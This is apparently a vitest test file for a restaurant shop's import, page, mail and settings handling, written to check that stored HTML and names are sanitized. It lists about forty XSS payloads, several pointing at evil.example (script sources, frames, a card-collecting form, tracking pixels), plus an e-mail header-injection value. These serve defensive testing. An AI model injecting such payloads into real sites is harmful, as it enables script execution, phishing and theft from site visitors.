import { cpSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import sanitize from 'sanitize-html'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { endpoints } from '#contract/endpoints.ts'
import { migrate } from '#server/db/migrate.ts'
import { DEMO_FOLDER } from '#server/demo.ts'
import { importFolder } from '#server/import/import.ts'
import { ImportError } from '#server/import/mistakes.ts'
import { call, send } from './setup/call.ts'
import { bruschetta, takeaway } from './setup/order.ts'
import { keepingPost } from './setup/post.ts'
import { changeCatalogue, openShop, type TestShop } from './setup/shop.ts'

/** What somebody could write into a text to make a browser do something. */
const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<ScRiPt >alert(1)</sCrIpT>'],
  ['a script that never ends', '<script>alert(1)'],
  ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script from elsewhere', '<script src="//evil.example/x.js"></script>'],
  ['a module', '<script type="module">import("//evil.example/x.js")</script>'],
  ['an event handler', '<p onclick="alert(1)">x</p>'],
  ['an event handler without quotes', '<img src=x onerror=alert(1)>'],
  ['an event handler after a slash', '<img src="x"/onerror=alert(1)>'],
  ['an event handler in SVG', '<svg><g onload="alert(1)"></g></svg>'],
  ['a script in SVG', '<svg><script>alert(1)</script></svg>'],
  ['an animation of a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  ['a script link', '<a href="javascript:alert(1)">x</a>'],
  ['a script link in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a script link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a script link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a script link behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a vbscript link', '<a href="vbscript:x">x</a>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>'],
  ['a style sheet', '<style>body{display:none}</style>'],
  ['a style that ends early', '<style></style><script>alert(1)</script></style>'],
  ['a linked style sheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['a class of the page', '<div class="dialog">x</div>'],
  ['a frame', '<iframe src="//evil.example"></iframe>'],
  ['a frame with a page in it', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="//evil.example"></object><embed src="//evil.example">'],
  ['a form', '<form action="//evil.example"><input name=card><button>Pay</button></form>'],
  ['a base', '<base href="//evil.example/">'],
  ['a redirection', '<meta http-equiv=refresh content="0;url=//evil.example">'],
  ['a picture that counts visitors', '<img src="https://evil.example/pixel.gif">'],
  ['a picture by its set', '<img src="/media/logo.svg" srcset="//evil.example/x 2x">'],
  ['a script picture', '<img src="javascript:alert(1)">'],
  ['mathematics with a script', '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a comment that ends early', '<!--><script>alert(1)</script>-->'],
  ['noscript that ends early', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a textarea that ends early', '<textarea></textarea><script>alert(1)</script>'],
  ['an end of the page', '</body></html><script>alert(1)</script>'],
  ['a configuration that ends early', '</script><script>alert(1)</script>'],
]

const name = (attack: string): string => `Suppe ${attack}`
const pageId = (index: number): string => `attack-${index}`
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`

const { mails, post } = keepingPost()
let shop: TestShop
let folder: string

/** A restaurant with a page for each attack, and with each attack as name and description of a category. */
beforeAll(async () => {
  shop = await openShop({ empty: true, post })
  await migrate(shop.db)
  folder = join(shop.folder, 'restaurant')
  cpSync(DEMO_FOLDER, folder, { recursive: true })
  const pages = attacks.map(([, attack], index) => {
    writeFileSync(join(folder, 'pages', `${pageId(index)}.de.html`), `<p>davor</p>${attack}<p>danach</p>`)
    return `${pageId(index)},${quoted(name(attack))},,,yes,no,no`
  })
  append('pages.csv', pages)
  append(
    'categories.csv',
    attacks.map(([, attack], index) =>
      [pageId(index), quoted(name(attack)), '', '', quoted(attack), '', '', ''].join(','),
    ),
  )
  await importFolder(shop.db, folder, join(shop.folder, 'media'))
})
afterAll(() => shop.close())

function append(file: string, rows: string[]): void {
  const path = join(folder, file)
  writeFileSync(path, `${readFileSync(path, 'utf8').trimEnd()}\n${rows.join('\n')}\n`)
}

/** Every tag of a text and its attributes, as a parser of HTML sees them. */
function tagsIn(html: string): { tag: string; attributes: Record<string, string> }[] {
  const tags: { tag: string; attributes: Record<string, string> }[] = []
  sanitize(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    nonTextTags: [],
    allowedSchemesAppliedToAttributes: [],
    onOpenTag: (tag, attributes) => void tags.push({ tag, attributes }),
  })
  return tags
}

const PAGE_TAGS = new Set(['p', 'a', 'img', 'div', 'br'])
const PAGE_ATTRIBUTES = new Set(['href', 'src', 'alt', 'width', 'height'])

/** What in a page's text a browser would do more with than show it. */
const harmIn = (html: string): string[] => [
  ...(/<!|evil\.example/.exec(html) ?? []),
  ...tagsIn(html).flatMap(({ tag, attributes }) => [
    ...(PAGE_TAGS.has(tag) ? [] : [tag]),
    ...Object.entries(attributes)
      .filter(([attribute, value]) => !PAGE_ATTRIBUTES.has(attribute) || !isPlain(attribute, value))
      .map(([attribute, value]) => `${attribute}=${value}`),
  ]),
]

function isPlain(attribute: string, value: string): boolean {
  if (attribute === 'href') return /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(value)
  return attribute !== 'src' || !/^\s*(\w+:|\/\/)/.test(value)
}

describe('what a page says is harmless once it is stored [R10.26]', () => {
  test.each(attacks.map(([title], index) => [title, index] as const))('%s', async (_, index) => {
    const pages = await call(shop, endpoints.getPages, {})
    const { text = '' } = pages.find(page => page.id === pageId(index)) ?? {}
    expect(harmIn(attacks[index]?.[1] ?? '')).not.toEqual([])
    expect(harmIn(text)).toEqual([])
    expect(text).toContain('<p>davor</p>')
  })
})

describe('a name stays the text that it is [R10.26]', () => {
  test('of pages and categories, in the API’s own type', async () => {
    const pages = await call(shop, endpoints.getPages, {})
    const categories = await call(shop, endpoints.getCategories, {})
    for (const [index, [, attack]] of attacks.entries()) {
      expect(pages.find(page => page.id === pageId(index))?.name).toBe(name(attack).trim())
      const category = categories.find(each => each.id === pageId(index))
      expect([category?.name, category?.description]).toEqual([name(attack).trim(), attack.trim()])
    }
    const answer = await send(shop, 'GET', '/products/categories')
    expect(answer.headers.get('Content-Type')).toBe('application/json')
    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
  })

  test.each(attacks)('in a mail: %s', async (_, attack) => {
    mails.length = 0
    const changed = { name: JSON.stringify({ de: name(attack) }) }
    await changeCatalogue(shop, tx =>
      tx.updateTable('products').set(changed).where('id', '=', '101').execute(),
    )
    const sender = { name: name(attack).slice(0, 200), notes: attack }
    await call(shop, endpoints.placeOrder, { body: takeaway([bruschetta()], sender) })
    await call(shop, endpoints.contact, {
      body: {
        fname: attack,
        lname: attack,
        subject: attack,
        message: attack,
        email: 'a@example.org',
        terms: true,
      },
    })
    await call(shop, endpoints.createReservation, {
      body: {
        ...sender,
        reservedAt: '2026-11-20T20:00:00+01:00',
        guests: '2',
        email: 'a@example.org',
        phone: '030 901820',
        terms: true,
      },
    })
    await shop.outbox.drain()
    expect(mails).toHaveLength(5)
    for (const { html } of mails) {
      const [body = ''] = /<body>[\s\S]*/.exec(html) ?? []
      for (const { tag, attributes } of tagsIn(body)) {
        expect(['body', 'p', 'table', 'tr', 'th', 'td', 'b', 'br', 'h2', 'a', 'blockquote']).toContain(tag)
        expect(attributes.href ?? 'https://shop.example/').toMatch(/^https:\/\/shop\.example\//)
        expect(Object.keys(attributes).filter(each => /^on|style|src/.test(each))).toEqual([])
      }
    }
  })
})

describe('a setting that becomes a link', () => {
  const cases: [string, string, string][] = [
    ['INSTAGRAM', 'javascript:alert(1)', 'must be an address'],
    ['FACEBOOK', 'data:text/html,x', 'must be an address'],
    ['MAP_URL', '//evil.example', 'must be an address'],
    ['MAP_TILES', 'https://tiles.example/map.png', 'must be an address such as https://tile.example.org/'],
    ['MAP_TILES', 'http://tiles.example/{z}/{x}/{y}.png', 'must be an address such as'],
    ['MAP_TILES', 'javascript:alert(1)/{z}/{x}/{y}', 'must be an address such as'],
    ['WHATSAPP', 'javascript:alert(1)', 'must be a phone number or an address'],
    ['EMAIL', 'a@example.org\nBcc: victim@example.org', 'must be an e-mail address'],
    ['EMAIL', 'a@example.org, victim@example.org', 'must be an e-mail address'],
    ['TIME_ZONE', 'Europe/Prenzlau', 'must be a time zone'],
  ]

  test.each(cases)('%s is not %j', async (key, value, expected) => {
    const path = join(folder, 'settings.csv')
    const before = readFileSync(path, 'utf8')
    const others = before.split('\n').filter(line => !line.startsWith(`${key},`))
    writeFileSync(path, `${others.join('\n').trimEnd()}\n${key},${quoted(value)},,yes\n`)
    const error = await importFolder(shop.db, folder, join(shop.folder, 'media')).catch(String)
    writeFileSync(path, before)
    expect(error).toContain(`column value: “${value}” ${expected}`)
  })

  test('may be left empty, or be what it should', async () => {
    append('settings.csv', ['TIKTOK,,,yes', 'TWITTER,https://example.org/x,,yes', 'constructor,x,,yes'])
    const imported = importFolder(shop.db, folder, join(shop.folder, 'media'))
    await expect(imported).resolves.toBeDefined()
    await expect(imported).resolves.not.toBeInstanceOf(ImportError)
  })
})
